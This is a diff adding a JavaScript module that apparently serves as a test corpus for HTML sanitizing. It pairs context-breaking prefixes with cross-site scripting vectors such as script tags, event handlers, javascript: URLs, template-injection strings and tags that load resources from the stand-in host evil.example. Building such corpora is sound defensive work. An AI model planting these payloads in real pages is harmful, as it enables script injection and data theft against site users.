@@ -1,0 +1,47 @@
+const DEED = "ran.push(1)";
+const LEAVES = [
+  "",
+  '"',
+  "'",
+  '">',
+  "'>",
+  "</script>",
+  "</textarea>",
+  "</title>",
+  "</style>",
+  "-->",
+  "]]>",
+  "`",
+  '\\"',
+  "*/",
+  "&quot;>",
+  "%22%3E",
+  "\u2028",
+  "{{",
+  "${",
+];
+const DEEDS = [
+  `<script>${DEED}</script>`,
+  `<ScRiPt/x>${DEED}</ScRiPt\n>`,
+  `<img src=x onerror=${DEED}>`,
+  `<img/src/onerror='${DEED}'>`,
+  `<svg onload=${DEED}>`,
+  `<svg><script>${DEED}</script></svg>`,
+  `<math><mtext><style><img src onerror=${DEED}>`,
+  `<iframe srcdoc="<script>parent.${DEED}</script>">`,
+  `<iframe src=javascript:parent.${DEED}>`,
+  `<body onload=${DEED}>`,
+  `<details open ontoggle=${DEED}>x</details>`,
+  `<input autofocus onfocus=${DEED}>`,
+  `<video><source onerror=${DEED}></video>`,
+  `<a href="javascript:${DEED}" autofocus onfocus=${DEED}>x</a>`,
+  `<style>@import'https://evil.example/s';*{background:url(https://evil.example/b)}</style>`,
+  `<link rel=stylesheet href=https://evil.example/l>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${DEED}">`,
+  `<base href=https://evil.example/>`,
+  `<object data=https://evil.example/o></object><embed src=https://evil.example/e>`,
+  `\${${DEED}};{{constructor.constructor('${DEED}')()}};"-${DEED}-"';${DEED};//`,
+];
+
+/** Ways to make text run in a page, each after each way to leave the place where it stands. What runs is `ran.push(1)`. */
+export const hostileTexts = LEAVES.flatMap((leave) => DEEDS.map((deed) => leave + deed));
